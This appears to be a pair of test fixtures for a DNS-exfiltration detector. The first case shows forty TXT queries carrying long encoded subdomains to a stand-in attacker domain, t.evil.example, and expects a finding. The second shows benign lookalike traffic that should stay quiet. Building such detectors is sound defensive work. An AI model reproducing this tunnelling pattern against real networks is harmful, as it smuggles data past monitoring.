fires: forty names full of data
flow 192.168.1.99 > 192.168.1.1 udp/53 dns
dns 192.168.1.99 > 192.168.1.1 pix6ea6qom66zjojyaekctbr6y3z4ixgci7nq3t2yw2ovbrk.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 ugnrshe66fwe2jbs32hccyvrpctaegcm2sqjcvuxiyy5ygr3.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 pt3qtva2ubyidv5wwr7bdbxq5tulxluxqtygbitorpul3ggu.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 vo4kfvn4rohcmulrvfwi2sr5w2s22c2jma63oc5svoeshpcc.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 m3da6hktpb2dhviq6dwomhhkpria7zdrpr3d6uadichde6cf.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 7ukuewyytxqmv3hiayflcx5yc3dx7u225bpnre3o3ibuxqh5.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 hyguga6jpycfgylbvhbh6stfcpggduleplp5zqxzw2fyp2k2.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 6jzjkg764lirmjuos2rntbr6ymlxpu6j26n5b6ezc5openqp.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 mqilcqkcul3ffhfqscw4vabvv3y7en7ziuhre3h4qgxx4sqg.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 vh7wdsljlx5hgjv2tl56tleglzwgrrydic6rpwvz4ew7hjrg.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 hhlm2zijzmklmqxsb42yut7t6bmago7l5mmnc4hsji5fdbxo.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 e7bvuvwifcfvnem3o7ugc2emkz76e3n7tb55z4l5cqxx4xzo.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 anqxj5mknbkzkbihk47ldbz4u2cdpzcz7bopgy6mkvhwhdsr.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 5t7prbvwufd3fagbfbkc6dmvm6v6wcytzfsl2hyvzlywlx24.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 o46wrky7cjkb5fgupdd45vxaemzgvth4fnpdjjahosno2um5.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 lfchbgmqfg5zog7wz4hs4ynha5tevwm7ex3enpwdvp34fqnu.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 knn52xm2626csblgbjsd6cmnr73cw5msjg4t24enj7syxk3t.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 56oxssb5xwtpaaijbkdan5wxc7lpar3vdg4tqp72qvcb3ckp.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 i2virbkcb7d552xksleig2w45rq4sjuic27o5rbuh7irrg3e.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 xc74mtwlyzudrncuuzsci2q2f7omfhhase3r65rsdlp7kjjl.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 5zajzdlltmijdjnyg3ylbrgihjsiywemaxj6pew7gu6bw425.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 t4j5ymsltkurmidd2lhakhzxrf54ujnu5xuwwvstrlhovps3.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 r4i6vl4de23sdpyynexnd7h3yxatxxz4xg7juoaxeaifnu3s.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 mbbu4xn4vhyo6itsmhlf3bwya7l6riyn3t3sgfe4ueau63gv.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 2oumzfdbpflo6zsw5omtvixwun4d3tm7nlg5hznulcu7pydp.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 zxyolsqwqdvhnot4lkp6nnxolz3lt4xdf57blr27oy7wz6lh.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 2vjugwjt6j4x7cwmftsu2sa3w36xlpsmyhuku7lz5m2xgd6m.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 kkhghyuzre6ruoqhnh6x3jqxlqmopqwvggifo5vhujkc7rix.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 4333qsryjcck3aninxqcwmhkne73sjhvkqiffigafz54qlae.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 s2kacvuxgcnya4uo44pawnok2zgzuhpsgbzbvom5qyn3tel4.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 gsj4itkoxshe7e6p2bab6ad6adwst67ttitfzchmpfkzikft.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 a7ex7f2vz35vbut6q6qnwgq626mvdpdzpylugl4q32vy3cxz.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 xzroiomb2gz66y3m6zdkbmgizhhgnsi33jkn37u4bqbvuynh.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 smfnypovofvtnnzatpjreqwnsjwnmh53qdzqsm4ntwfg2zwp.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 qhhbluwkoudhue2vsb744k6ahkx6rym5y6xxav674a6etloh.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 llqufxaovadykg4w7a53fgffmgrfvbnd4chnu4tuaman3iw4.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 26itseokv4ypusvwksxelyt5z3ngwax4d5q77mtfe74zkmqi.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 qalmp5hsxmgau4t7cusl57t6vpemcxewalc6kugkxp6daouj.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 spwwyj53zd5zbfr2txhalg2cz3pe3cqxl3w2bowoyxwskoxa.t.evil.example type=TXT
dns 192.168.1.99 > 192.168.1.1 pk7qmi64kzqyzfnygnxwqty3jwesurmmznnoxq4phhb2cttw.t.evil.example type=TXT
finds 192.168.1.99 detail=evil.example

quiet: one long name of a content network, many short names, names of the site
flow 192.168.1.99 > 192.168.1.1 udp/53 dns
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=1
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=2
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=3
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=4
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=5
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=6
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=7
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=8
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=9
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=10
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=11
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=12
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=13
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=14
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=15
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=16
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=17
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=18
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=19
dns 192.168.1.99 > 192.168.1.1 dddddddddddddddddddddddddddddddddddddddd.cdn.example queries=20
dns 192.168.1.99 > 192.168.1.1 www0.shop.example
dns 192.168.1.99 > 192.168.1.1 www1.shop.example
dns 192.168.1.99 > 192.168.1.1 www2.shop.example
dns 192.168.1.99 > 192.168.1.1 www3.shop.example
dns 192.168.1.99 > 192.168.1.1 www4.shop.example
dns 192.168.1.99 > 192.168.1.1 www5.shop.example
dns 192.168.1.99 > 192.168.1.1 www6.shop.example
dns 192.168.1.99 > 192.168.1.1 www7.shop.example
dns 192.168.1.99 > 192.168.1.1 www8.shop.example
dns 192.168.1.99 > 192.168.1.1 www9.shop.example
dns 192.168.1.99 > 192.168.1.1 www10.shop.example
dns 192.168.1.99 > 192.168.1.1 www11.shop.example
dns 192.168.1.99 > 192.168.1.1 www12.shop.example
dns 192.168.1.99 > 192.168.1.1 www13.shop.example
dns 192.168.1.99 > 192.168.1.1 www14.shop.example
dns 192.168.1.99 > 192.168.1.1 www15.shop.example
dns 192.168.1.99 > 192.168.1.1 www16.shop.example
dns 192.168.1.99 > 192.168.1.1 www17.shop.example
dns 192.168.1.99 > 192.168.1.1 www18.shop.example
dns 192.168.1.99 > 192.168.1.1 www19.shop.example
dns 192.168.1.99 > 192.168.1.1 iiql6yqpk6fmwa7d23hzu2twze5meq4hqepwrpu2.plant.local
dns 192.168.1.99 > 192.168.1.1 deajmogmwkfkz5bguny2ogcfetml4lfwe7jjpo7r.plant.local
dns 192.168.1.99 > 192.168.1.1 zdotwelkb4hpgliun3bsf4p5phzkorgi52byhp2k.plant.local
dns 192.168.1.99 > 192.168.1.1 fe6blpuv65segwdbwucelqhbs6a2ydqvjwneutyj.plant.local
dns 192.168.1.99 > 192.168.1.1 yqfn7fyteupmoz5sjjapl5x2z4tzytfugfy3q5tg.plant.local
dns 192.168.1.99 > 192.168.1.1 o56kgy7n4tbsseimcc62yy3ajay24gpllxhwwbtx.plant.local
dns 192.168.1.99 > 192.168.1.1 dr7vanycqafpu6e6zaybt4izpj3geehpbpuu4c2o.plant.local
dns 192.168.1.99 > 192.168.1.1 evh6pylukwxvgl4fvlwofi6t5sgzemgepqumlkhj.plant.local
dns 192.168.1.99 > 192.168.1.1 mvupelzaprtdx5xvtv4gvmq6o4tmxg6h7lvjdvdr.plant.local
dns 192.168.1.99 > 192.168.1.1 aptxql4ijuxntu3f2ohqgib74qusnszebh3fjk4p.plant.local
dns 192.168.1.99 > 192.168.1.1 rv3dzpayrsqkwbofline2a426pfuqwbnp46b75vk.plant.local
dns 192.168.1.99 > 192.168.1.1 vfwbq34uxgbqjgs4s47frsdw3rovjp6nxeab73sz.plant.local
dns 192.168.1.99 > 192.168.1.1 yrx5d3glpjuwemszqwunab4fut3gihwhlimm57tn.plant.local
dns 192.168.1.99 > 192.168.1.1 utwwmxxisrm2x55gfa3444ws5wcqkhdfdsx45uaa.plant.local
dns 192.168.1.99 > 192.168.1.1 nt5tyouzwm7pmnieq5ti6h2y5spc7fqepyb4iydh.plant.local
dns 192.168.1.99 > 192.168.1.1 763vctharwrpgwe6qey4fatuvuzitxrp5hjwpxfw.plant.local
dns 192.168.1.99 > 192.168.1.1 ntmjbfzhdn72wxpze2ymny6maxxcdvugn5mruxw3.plant.local
dns 192.168.1.99 > 192.168.1.1 3zlyqz7sbe4gghx7qrng66s7bamp3x4jusxmkqa2.plant.local
dns 192.168.1.99 > 192.168.1.1 felyuozccqpcvgesvn6g6remcknzegby4br6ojx4.plant.local
dns 192.168.1.99 > 192.168.1.1 u5rx2zdz5gxibrmlfqi6prhkslbs7mzb6mq5e4ys.plant.local
